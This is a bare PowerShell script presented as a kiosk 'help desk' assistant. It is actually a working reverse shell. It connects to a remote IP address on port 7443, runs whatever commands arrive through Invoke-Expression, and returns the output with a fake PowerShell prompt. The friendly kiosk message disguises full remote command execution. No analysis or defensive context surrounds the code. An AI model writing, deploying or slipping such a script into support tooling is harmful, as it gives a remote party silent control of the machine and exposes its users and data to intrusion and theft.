$hd = '203.0.113.150'; $port = 7443
Write-Host "Kiosk id: $env:COMPUTERNAME  - waiting for help desk"
$c = New-Object System.Net.Sockets.TCPClient($hd, $port)
$s = $c.GetStream()
$w = New-Object System.IO.StreamWriter($s); $w.AutoFlush = $true
$r = New-Object System.IO.StreamReader($s)
$w.WriteLine("assist $env:COMPUTERNAME")
while ($c.Connected) {
  $cmd = $r.ReadLine()
  if ($null -eq $cmd -or $cmd -eq 'bye') { break }
  try { $out = Invoke-Expression $cmd 2>&1 | Out-String } catch { $out = $_.Exception.Message }
  $w.WriteLine($out + 'PS ' + (Get-Location).Path + '> ')
}
$c.Close()
